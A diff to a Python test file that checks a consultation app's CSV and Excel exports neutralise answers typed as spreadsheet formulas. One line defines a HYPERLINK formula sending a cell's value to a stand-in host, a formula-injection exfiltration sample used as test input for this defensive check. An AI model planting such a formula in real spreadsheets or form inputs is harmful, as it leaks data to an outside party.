@@ -1,11 +1,13 @@
 """A form's results out of the page: charts, search, CSV and Excel, and open data."""
 
+import csv
 import io
 
 from openpyxl import load_workbook
 
 from coproduce.consultations.models import Questionnaire, ResponseChannel
 from coproduce.consultations.services import paper_response_enter, questionnaire_close
+from coproduce.core.spreadsheets import safe_cell
 from tests.conftest import World
 from tests.consultations.conftest import NO, YES, client_for, key
 
@@ -69,6 +71,40 @@ def test_staff_download_every_response_without_references(
     assert "Too far to walk" not in funder.content.decode()
     assert "(not shown)" in funder.content.decode()
     assert staff.get(f"/consultations/manage/{questionnaire.pk}/responses.pdf").status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
+
+
+def test_an_answer_typed_as_a_formula_stays_text_in_the_csv_and_the_workbook(
+    world: World, questionnaire: Questionnaire
+) -> None:
+    enter(world, questionnaire, 0, why=FORMULA)
+    enter(world, questionnaire, 1, why="-3 miles away")
+    staff = client_for(world, "staff of A")
+    url = f"/consultations/manage/{questionnaire.pk}/responses"
+    cells = [cell for row in csv.reader(io.StringIO(staff.get(f"{url}.csv").content.decode()))
+             for cell in row]  # fmt: skip
+    assert f"'{FORMULA}" in cells
+    assert "'-3 miles away" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "-", "+", "@"))]
+    book = load_workbook(io.BytesIO(staff.get(f"{url}.xlsx").content))
+    sheet_cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
+    typed = [cell for cell in sheet_cells if cell.value == FORMULA]
+    assert typed, "the answer is in the workbook as it was typed"
+    assert all(cell.data_type == "s" for cell in typed)
+    assert not [cell for cell in sheet_cells if cell.data_type == "f"]
+
+
+def test_a_number_in_a_csv_is_not_quoted() -> None:
+    assert [safe_cell(v) for v in ("-3", "+1.5", "-12.5%", "1,200", "-", "=1")] == [
+        "-3",
+        "+1.5",
+        "-12.5%",
+        "1,200",
+        "'-",
+        "'=1",
+    ]
 
 
 def test_a_closed_forms_counts_are_open_data_when_enough_people_answered(
